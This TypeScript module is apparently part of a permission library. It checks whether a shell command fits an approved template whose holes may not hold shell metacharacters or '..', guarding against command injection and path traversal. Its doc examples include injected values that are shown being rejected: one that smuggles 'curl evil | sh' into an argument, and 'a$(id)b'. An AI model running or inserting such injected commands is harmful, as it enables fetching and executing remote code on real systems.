/**
 * Templates: what a grant says of a text that is filled in per run.
 *
 * A template is literal text with `{{…}}` holes. A text matches if each hole can be
 * filled with something safe; the author wrote the quoting, and a value without the
 * characters below can only change which noun the command names. Literals are found
 * left to right at the earliest place, with no backtracking. That is the
 * specification's rule and is kept: a search for *some* way to fill the holes, as a
 * regular expression makes, admits more.
 *
 * Every hole is judged by itself, and may hold spaces or begin with `-`. What that
 * lets by is for the strict findings (a `..` put together across a boundary) and the
 * linter (a hole read as an option).
 *
 * @module
 */

import { adopt } from "../text/seal.ts";
import { indexOf } from "../text/search.ts";
import { named, text } from "../text/shape.ts";
import type { Shape } from "../text/shape.ts";
import { Trail } from "../text/trail.ts";

/** What ends a quote, starts another command or expands in a shell: never inside a hole. */
export const FORBIDDEN_HOLE_CHARS: readonly string[] = Object.freeze([..."'\"`$;|&<>(){}\\\n\r\0"]);

const UNSAFE = new RegExp(
  `\\.\\.|[${
    FORBIDDEN_HOLE_CHARS.map((char) => `\\u{${char.charCodeAt(0).toString(16)}}`).join("")
  }]`,
  "u",
);

/** What a hole is and may hold, for people. */
export const HOLES: string = "`{{` opens a hole and the next `}}` closes it. What fills one may " +
  "hold no `..`, no line break, no NUL and none of `` " +
  FORBIDDEN_HOLE_CHARS.filter((char) => char > " ").join(" ") + " ``.";

/** The wire form of a template. Any text is one. */
export const templateShape: Shape<string> = named(
  "Template",
  `A text that is compared as it is, but for its holes. ${HOLES}`,
  text,
);

/** A template taken apart. There is one literal more than there are holes. */
export interface Template {
  /** The text before, between and after the holes; any of them may be empty. */
  readonly literals: readonly string[];
  /** What stands between each `{{` and the first `}}` after it. */
  readonly holes: readonly string[];
}

/** Where one hole's content stands in a filled text. */
export interface Filling {
  /** The index of its first unit. */
  readonly start: number;
  /** The index after its last unit. */
  readonly end: number;
}

/** Takes a template apart. A `{{` that nothing closes is literal text. */
export function dissect(template: string): Template {
  const literals: string[] = [];
  const holes: string[] = [];
  let at = 0;
  for (;;) {
    const open = template.indexOf("{{", at);
    const close = open < 0 ? -1 : template.indexOf("}}", open + 2);
    if (close < 0) break;
    literals.push(template.slice(at, open));
    holes.push(template.slice(open + 2, close));
    at = close + 2;
  }
  literals.push(template.slice(at));
  return { literals, holes };
}

/**
 * Where the holes' contents stand in a text, or `undefined` if it is no instance of
 * the template. This split is the one that decides; there is no other.
 */
export function fillings(template: string, actual: string): readonly Filling[] | undefined {
  const { literals } = dissect(template);
  if (literals.length === 1) return template === actual ? [] : undefined;
  if (!actual.startsWith(literals[0]!)) return undefined;
  const filled: Filling[] = [];
  let at = literals[0]!.length;
  for (let i = 1; i < literals.length; i++) {
    const literal = literals[i]!;
    const last = i === literals.length - 1;
    // A hole at the very end takes all that is left; any other stops at its literal.
    const end = last && literal === "" ? actual.length : indexOf(actual, literal, at);
    if (end < 0 || !isSafe(actual.slice(at, end))) return undefined;
    filled.push({ start: at, end });
    at = end + literal.length;
  }
  return at === actual.length ? filled : undefined;
}

/**
 * Whether a filled text has a `..` that is not wholly inside one literal of its
 * template: put together from a literal's dot and a hole's, or from two literals
 * around an empty hole. No hole holds one by itself, so every such pair of dots
 * stands across an edge of a hole.
 */
export function traverses(template: string, actual: string): boolean {
  if (!actual.includes("..")) return false;
  const split = (edge: number) => actual[edge - 1] === "." && actual[edge] === ".";
  return fillings(template, actual)?.some(({ start, end }) => split(start) || split(end)) ?? false;
}

function isSafe(value: string): boolean {
  return !UNSAFE.test(value);
}

/**
 * The literal text of a template: before the first hole, between each two, and after
 * the last. One segment means there are no holes.
 *
 * Throws {@linkcode MalformedError} for what is no well-formed string.
 *
 * @example
 * ```ts
 * import { templateSegments } from "@writ/writ";
 *
 * console.log(templateSegments("cp '{{from}}' /out")); // [ "cp '", "' /out" ]
 * console.log(templateSegments("echo {{oops")); // [ "echo {{oops" ]
 * ```
 */
export function templateSegments(template: string): readonly string[] {
  return Object.freeze(dissect(adopt(text, template, new Trail("template"))).literals);
}

/**
 * Whether a text is a template with each hole filled by a value that
 * {@linkcode holeIsSafe} accepts. A template with no holes is compared as it is.
 *
 * Throws {@linkcode MalformedError} for what is no well-formed string.
 *
 * @example
 * ```ts
 * import { templateMatches } from "@writ/writ";
 *
 * const template = "build.sh '{{target}}'";
 * console.log(templateMatches(template, "build.sh 'x86_64-linux'")); // true
 * console.log(templateMatches(template, "build.sh 'x'; curl evil | sh; echo ''")); // false
 * ```
 */
export function templateMatches(template: string, actual: string): boolean {
  return fillings(
    adopt(text, template, new Trail("template")),
    adopt(text, actual, new Trail("actual")),
  ) !== undefined;
}

/**
 * Whether a value may fill a hole: it holds none of the shell's own characters and
 * no `..`, so it cannot leave the quotes or the directory that the author wrote.
 *
 * Throws {@linkcode MalformedError} for what is no well-formed string.
 *
 * @example
 * ```ts
 * import { holeIsSafe } from "@writ/writ";
 *
 * console.log(holeIsSafe("x86_64-unknown-linux-musl")); // true
 * console.log(holeIsSafe("a$(id)b")); // false
 * ```
 */
export function holeIsSafe(value: string): boolean {
  return isSafe(adopt(text, value, new Trail("value")));
}
